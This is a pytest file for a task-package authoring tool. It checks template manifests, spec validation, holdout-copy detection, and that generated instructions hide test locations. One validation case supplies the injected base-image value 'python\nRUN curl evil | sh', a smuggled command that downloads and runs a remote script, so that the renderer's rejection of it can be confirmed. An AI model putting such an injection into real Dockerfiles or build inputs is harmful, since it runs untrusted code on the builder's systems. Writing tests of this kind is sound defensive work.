"""The templates and their manifest agree, and every document says what the contract says."""

import tomllib
from collections.abc import Callable
from pathlib import Path

import pytest
from jinja2 import UndefinedError, meta

from harness.errors import InputError, PrerequisiteError
from harness.task.contract import Source
from rsi_anything import resources
from rsi_anything.authoring.derive import ADAPTER, contract_of, verifier_sec
from rsi_anything.authoring.render import environment, render, templates
from rsi_anything.contract.spec import TaskSpec

GOLDEN = Path(__file__).parents[3] / "golden"
SOURCE = Source(repository="local", commit="none", license="MIT")
FOLDER = resources.templates_dir() / "task"


def spec_of(case: str, change: Callable[[dict[str, dict[str, object]]], object] = lambda data: None) -> TaskSpec:
    data = tomllib.loads((GOLDEN / case / "answers.toml").read_text(encoding="utf-8"))
    change(data)
    return TaskSpec(**data)


@pytest.mark.parametrize("template", templates(), ids=lambda template: template.source)
def test_declared_and_used_variables_agree(template: object) -> None:
    assert hasattr(template, "source")
    if template.copied:
        assert not template.source.endswith(".jinja")
        return
    text = (FOLDER / template.source).read_text(encoding="utf-8")
    used = meta.find_undeclared_variables(environment().parse(text))
    assert used == set(template.variables)
    assert list(template.variables) == sorted(template.variables)


def test_every_template_and_every_variable_is_in_the_manifest() -> None:
    files = {path.relative_to(FOLDER).as_posix() for path in FOLDER.rglob("*") if path.is_file()}
    assert files == {template.source for template in templates()} | {"manifest.toml"}
    declared = tomllib.loads((FOLDER / "manifest.toml").read_text(encoding="utf-8"))["variables"]
    assert set(declared) == {name for template in templates() for name in template.variables}


def test_an_unknown_variable_is_an_error() -> None:
    with pytest.raises(UndefinedError):
        environment().from_string("{{ nothing }}").render()


def test_resources_are_found_or_named() -> None:
    assert (resources.templates_dir() / "task" / "manifest.toml").is_file()
    with pytest.raises(PrerequisiteError, match="nowhere") as caught:
        resources._data("nowhere")
    assert "nowhere" in caught.value.where
    assert caught.value.next_step == "install rsi-anything again"


def test_installed_data_comes_before_a_checkout(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    package = tmp_path / "rsi_anything"
    (package / "_data" / "templates").mkdir(parents=True)
    (tmp_path / "tasks").mkdir()
    monkeypatch.setattr(resources, "files", lambda name: package)
    assert resources.templates_dir() == package / "_data" / "templates"
    assert resources.tasks_dir() == tmp_path / "tasks"


def test_the_adapter_may_be_changed_unless_it_is_frozen() -> None:
    boundary = contract_of(spec_of("lines"), SOURCE).boundary
    assert ADAPTER in boundary.editable
    assert ADAPTER in boundary.deliver
    frozen = contract_of(spec_of("artefact"), SOURCE).boundary
    assert ADAPTER not in (*frozen.editable, *frozen.deliver)
    assert contract_of(spec_of("tail"), SOURCE).boundary.editable == ("**",)  # it is named already


def test_a_judging_has_room_for_its_parts() -> None:
    spec = spec_of("lines")
    assert verifier_sec(spec) == spec.baseline.train_sec + spec.evaluation.predict_sec + 60
    assert verifier_sec(spec_of("tail")) == 15 + 60
    long = spec_of("lines", lambda data: data["baseline"].update(train_sec=36000.0))
    assert verifier_sec(long) == pytest.approx(36020 * 1.1)


@pytest.mark.parametrize(
    ("case", "table", "changes", "words"),
    [
        ("lines", "compute", {"base": "python\nRUN curl evil | sh"}, "is no image"),
        ("lines", "compute", {"base": "--platform=x python"}, "is no image"),
        ("lines", "evaluation", {"adapter": "def load(:\n"}, "no Python"),
        ("lines", "evaluation", {"adapter": "def laod():\n    return 1\n"}, "defines no load"),
        ("custom", "evaluation", {"evaluator": "x = 1"}, "defines no evaluate"),
        ("custom", "evaluation", {"evaluator": "from __future__ import annotations\ndef evaluate(j): 0"}, "no Python"),
        ("lines", "boundary", {"editable": ["nothing/**"], "deliver": ["nothing/**"]}, None),
        ("custom", "boundary", {"editable": ["nothing/**"], "deliver": ["x"], "frozen": ["rsi_*"]}, "may be edited"),
        ("lines", "evaluation", {"data": {"file": "no.txt", "split": "lines", "holdout": 0.5}}, "no file 'no.txt'"),
        ("lines", "evaluation", {"data": {"file": "LICENSE", "split": "rows", "holdout": 0.5}}, "go with rows"),
        ("rows", "evaluation", {"data": {"file": "table.csv", "split": "tail", "holdout": 0.5}}, "rows and a label"),
        ("lines", "baseline", {"floor": [{"file": "data/names.txt", "pattern": "(a)", "value": ""}]}, "floor"),
        ("lines", "baseline", {"floor": [{"file": "train.py", "pattern": "(", "value": ""}]}, "regular expression"),
        ("lines", "baseline", {"floor": [{"file": "train.py", "pattern": "(name)", "value": ""}]}, "times in train.py"),
        ("lines", "baseline", {"floor": [{"file": "train.py", "pattern": "name", "value": ""}]}, "0 groups"),
    ],
)
def test_answers_that_make_no_task_are_named(
    case: str, table: str, changes: dict[str, object], words: str | None
) -> None:
    def change(data: dict[str, dict[str, object]]) -> None:
        data[table].update(changes)
        if words is None:
            data["baseline"].pop("floor")

    spec = spec_of(case, change)
    if words is None:  # new files may be allowed where there are none yet, as the adapter can be edited
        assert "solution/files/rsi_adapter.py" in render(spec, GOLDEN / case / "project", SOURCE).files
        return
    with pytest.raises(InputError, match=words) as caught:
        render(spec, GOLDEN / case / "project", SOURCE)
    assert caught.value.next_step


def test_a_copy_of_the_data_is_no_holdout(tmp_path: Path) -> None:
    import shutil

    shutil.copytree(GOLDEN / "lines" / "project", tmp_path / "project")
    shutil.copy(tmp_path / "project" / "data" / "names.txt", tmp_path / "project" / "backup.txt")
    with pytest.raises(InputError, match=r"backup\.txt is a copy of data/names\.txt"):
        render(spec_of("lines"), tmp_path / "project", SOURCE)
    spec = spec_of("lines", lambda data: data["boundary"].update(exclude=["backup.txt"]))
    assert "environment/project/backup.txt" not in render(spec, tmp_path / "project", SOURCE).files


def test_the_instruction_tells_what_is_hidden_but_not_where() -> None:
    for case in ("lines", "rows", "tail", "artefact", "custom"):
        plan = render(spec_of(case), GOLDEN / case / "project", SOURCE)
        text = plan.files["instruction.md"].data.decode("utf-8")
        assert "held-out" in text
        for word in ("/tests", "examples.jsonl", "judge_kit", "evaluate.py", "solution/", "contract.json", "/logs"):
            assert word not in text
